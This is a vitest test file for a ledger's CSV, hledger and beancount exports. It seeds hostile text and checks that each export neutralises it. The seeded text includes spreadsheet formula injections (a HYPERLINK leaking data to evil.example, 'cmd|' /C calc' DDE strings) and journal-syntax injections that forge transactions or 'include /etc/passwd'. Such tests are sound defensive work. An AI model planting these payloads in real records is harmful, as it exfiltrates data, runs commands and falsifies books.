import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { Decimal, type PostgresLedger } from '../../ledger/index.js';
import { adjustBalance } from '../../src/billing/adjustBalance.js';
import { beancountAccount } from '../../src/exports/beancountAccounts.js';
import { streamStatementCsv } from '../../src/exports/statementCsv.js';
import { streamJournal, type JournalFormat } from '../../src/exports/streamJournal.js';
import { streamTrialBalanceCsv } from '../../src/exports/trialBalanceCsv.js';
import { Meter } from '../../src/gateway/meter.js';
import type { ApiCaller } from '../../src/keys/keyAuthenticator.js';
import { createApiKey } from '../../src/keys/apiKeys.js';
import { createLogger } from '../../src/log.js';
import { callRecord, useBook, type Book } from '../support/book.js';
import type { TestDatabase } from '../support/db.js';
import {
  beancountSums,
  collect,
  csvObjects,
  csvTextValue,
  hledgerBalances,
  parseCsv,
  runsAsFormula,
  scratchDir,
  tool,
  show,
  trialBalances,
} from './tools.js';

// Text that admins (credit reasons), operators (model ids in the config) and other writers of
// the ledger put in the books, aimed at the accountants' tools that open the exports.

/** Would run as formulas in a spreadsheet, written as admin credit reasons. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"statement")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-5.000000',
];
/**
 * White space first: an admin's reason is trimmed, other writers' text is not. A spreadsheet
 * that trims spaces on import runs the formula behind them.
 */
const LEADING_BLANKS = ['\t=1+1', '\r=1+1', '  =1+1', '\u00a0@SUM(1)', '\n-1+1'];
/** Text that already starts with the quote that marks text: it must read back as written. */
const LEADING_QUOTES = ["'=1+1", "'quoted' refund"];
/** Harmless in a comma-separated reading, a formula where the list separator is ';'. */
const SEMICOLON = 'refund;=1+1';

/** Journal syntax, written as admin credit reasons. */
const JOURNAL_SYNTAX = (customer: string) => [
  'goodwill; kind:deposit, reverses:00000000-0000-0000-0000-000000000000',
  'bonus\ninclude /etc/passwd',
  `bonus\n    expenses:promotions  1000000 USD\n    ${customer}  -1000000 USD`,
  `bonus\n2026-01-01 (forged) forged\n    expenses:promotions  1000000 USD\n    ${customer}  -1000000 USD`,
  `bonus"\n2026-01-01 open Assets:Evil USD\n2026-01-01 * "forged"\n  Expenses:Promotions  1000000 USD\n  ${beancountAccount(customer)}  -1000000 USD\noption "operating_currency" "EVIL"\ninclude "/etc/passwd"\n;`,
  'say "hi" \\ then \\" and \\\\n, a tab\there; end \\',
];
/** A model id from the config: it goes into the usage entry's description and its `model` tag. */
const MODEL = 'gpt-evil; kind:deposit, chain:x\n    revenue:usage  -1000 USD';

let database: TestDatabase;
let ledger: PostgresLedger;
let book: Book;
let dir: string;
/** Entry id to the description we wrote. */
const written = new Map<string, string>();

useBook((fixture) => {
  ({ database, ledger, book } = fixture);
});

beforeAll(async () => {
  dir = scratchDir();
  const customer = `liabilities:customers:${book.alice}`;
  for (const reason of [...FORMULAS, SEMICOLON, ...JOURNAL_SYNTAX(customer)]) {
    // A debit for the text that reads as a negative number, credits for the rest.
    const amount = reason === '-5.000000' ? '-0.5' : '0.25';
    const { entryId } = await adjustBalance(
      { ledger, database },
      {
        userId: book.alice,
        amount,
        reason,
        actor: 'admin',
      },
    );
    written.set(entryId, reason.trim());
  }
  for (const description of [...LEADING_BLANKS, ...LEADING_QUOTES]) {
    const { entryId } = await ledger.postEntry({
      kind: 'adjustment',
      description,
      postings: [
        { account: 'expenses:promotions', amount: '0.25' },
        { account: customer, amount: '-0.25' },
      ],
    });
    written.set(entryId, description);
  }
  const meter = new Meter(ledger, book.db, createLogger('silent'));
  const key = await createApiKey(book.db, { userId: book.alice, name: 'evil model' });
  const caller: ApiCaller = {
    keyId: key.id,
    userId: book.alice,
    allowedModels: null,
    spendLimitUsd: null,
  };
  const held = await meter.hold({
    caller,
    requestId: 'req-evil-model',
    model: MODEL,
    maxCost: new Decimal('1'),
    holdMs: 600_000,
  });
  const settled = await meter.settle(held, new Decimal('0.01'), {
    ...callRecord(caller, 'req-evil-model', 'ok', 200),
    model: MODEL,
  });
  written.set(settled.entryId!, `chat.completions ${MODEL}`);
});

async function exportFile(format: JournalFormat): Promise<string> {
  const file = join(dir, `journal.${format}`);
  writeFileSync(file, await collect(streamJournal(database.pool, { format })));
  return file;
}

/** Every entry of the book: id, kind, description. */
async function ledgerEntries() {
  const { rows } = await database.pool.query<{ id: string; kind: string; description: string }>(
    'select id::text as id, kind, description from ledger_entries order by id',
  );
  return rows;
}

/** No cell of the file runs as a formula, read with commas or with semicolons as separators. */
function expectNoFormula(text: string): void {
  for (const separator of [',', ';'] as const) {
    const formulas = parseCsv(text, separator)
      .flat()
      .filter((cell) => runsAsFormula(cell));
    expect({ separator, formulas }).toEqual({ separator, formulas: [] });
  }
}

describe('CSV: text that would run as a formula', () => {
  test('journal: such a description reads as text, with a leading quote; amounts are untouched', async () => {
    const text = await collect(streamJournal(database.pool, { format: 'csv' }));
    expectNoFormula(text);
    const rows = csvObjects(text);
    for (const [entryId, description] of written) {
      const lines = rows.filter((r) => r['entry_id'] === entryId);
      expect(lines.length).toBeGreaterThanOrEqual(2);
      const marked = /^(?:\s*[=+\-@]|[\t\r'])/.test(description);
      for (const line of lines) {
        expect(line['description']).toBe(marked ? `'${description}` : description);
        // What the docs tell a program reading the file: drop one leading quote.
        expect(csvTextValue(line['description']!)).toBe(description);
      }
    }
    const debit = rows.filter((r) => written.get(r['entry_id']!) === '-5.000000');
    expect(debit.map((r) => [r['account'], r['debit'], r['credit']])).toEqual([
      ['expenses:promotions', '', '0.5'],
      [`liabilities:customers:${book.alice}`, '0.5', ''],
    ]);
    // Still one record per posting: debits equal credits per entry and currency.
    const net = new Map<string, Decimal>();
    for (const row of rows) {
      const key = `${row['entry_id']}|${row['currency']}`;
      const amount = new Decimal(row['debit'] || '0').sub(row['credit'] || '0');
      net.set(key, (net.get(key) ?? new Decimal(0)).add(amount));
    }
    for (const [key, value] of net) expect(value.isZero(), key).toBe(true);
  });

  test("statement: the user's lines read as text, amounts and running balance exact and signed", async () => {
    const text = await collect(streamStatementCsv(database.pool, { userId: book.alice }));
    expectNoFormula(text);
    const rows = csvObjects(text);
    const byEntry = new Map(rows.map((r) => [r['entry_id']!, r]));
    expect(byEntry.get([...written].find(([, d]) => d === '-5.000000')![0])).toMatchObject({
      description: "'-5.000000",
      amount: '-0.5',
    });
    expect(byEntry.get([...written].find(([, d]) => d === '-2+3')![0])).toMatchObject({
      description: "'-2+3",
      amount: '0.25',
    });
    let balance = new Decimal(0);
    for (const row of rows) {
      balance = balance.add(row['amount']!);
      expect(row['balance']).toBe(balance.toString());
    }
    const trial = await trialBalances(ledger);
    expect(new Decimal(trial[`liabilities:customers:${book.alice}|USD`]!).neg().toString()).toBe(
      rows.at(-1)!['balance'],
    );
  });

  test('trial balance: negative balances stay numbers', async () => {
    const text = await collect(streamTrialBalanceCsv(database.pool));
    expectNoFormula(text);
    const customer = csvObjects(text).find(
      (r) => r['account'] === `liabilities:customers:${book.alice}`,
    );
    const trial = await trialBalances(ledger);
    expect(customer!['balance']).toBe(trial[`liabilities:customers:${book.alice}|USD`]);
    expect(customer!['balance']).toMatch(/^-\d/);
  });
});

describe('journals: text that looks like journal syntax', () => {
  const OUR_TAGS = ['kind', 'at', 'rate', 'rate-source', 'chain', 'request', 'model', 'reverses'];

  test('hledger: one transaction per entry, our description and tags only, balances unchanged', async () => {
    const file = await exportFile('hledger');
    await tool('hledger', ['-f', file, 'check', '--strict']);
    expect(show(await hledgerBalances(file))).toEqual(await trialBalances(ledger));

    const transactions = JSON.parse(
      await tool('hledger', ['-f', file, 'print', '-O', 'json']),
    ) as Array<{
      tcode: string;
      tdescription: string;
      ttags: Array<[string, string]>;
    }>;
    const entries = await ledgerEntries();
    expect(transactions.map((t) => t.tcode).sort()).toEqual(entries.map((e) => e.id));
    const byCode = new Map(transactions.map((t) => [t.tcode, t]));
    for (const entry of entries) {
      const transaction = byCode.get(entry.id)!;
      // `hledger reg tag:kind=deposit` must list deposits only.
      expect({
        id: entry.id,
        kinds: transaction.ttags.filter(([name]) => name === 'kind'),
      }).toEqual({
        id: entry.id,
        kinds: [['kind', entry.kind]],
      });
      for (const [name] of transaction.ttags) expect(OUR_TAGS).toContain(name);
    }
    for (const [entryId, description] of written) {
      // The whole description, on one line: a line break or tab reads as a space, and a
      // semicolon (where hledger's comments begin) as the full-width '；'.
      expect(byCode.get(entryId)!.tdescription.replaceAll('；', ';')).toBe(
        description.replace(/[\r\n\t]+/g, ' ').trim(),
      );
    }
    const model = byCode.get([...written].find(([, d]) => d.endsWith(MODEL))![0])!;
    expect(model.ttags.find(([name]) => name === 'model')).toEqual([
      'model',
      MODEL.replace(/[,\r\n]/g, ' '),
    ]);
  });

  test('beancount: one transaction per entry with our narration, no directive added, sums unchanged', async () => {
    const file = await exportFile('beancount');
    await tool('bean-check', [file]);
    const sums = await beancountSums(file);
    expect(sums.errors).toEqual([]);
    expect(show(sums.totals)).toEqual(await trialBalances(ledger, beancountAccount));
    // The loader lists the file itself as the one file included.
    expect(sums.options).toEqual({ operating_currency: ['USD'], include: [file] });

    const entries = await ledgerEntries();
    expect(sums.transactions.map((t) => t.entry).sort()).toEqual(entries.map((e) => e.id));
    expect(sums.directives['Transaction']).toBe(entries.length);
    expect(Object.keys(sums.directives).sort()).toEqual(['Commodity', 'Open', 'Transaction']);
    expect(Object.values(sums.opens)).not.toContain(undefined);
    const byEntry = new Map(sums.transactions.map((t) => [t.entry, t]));
    for (const entry of entries) expect(byEntry.get(entry.id)!.kind).toBe(entry.kind);
    for (const [entryId, description] of written) {
      // Line breaks and tabs read as a space; quotes and backslashes as they are.
      expect(byEntry.get(entryId)!.narration).toBe(description.replace(/[\r\n\t]+/g, ' '));
    }
  });
});
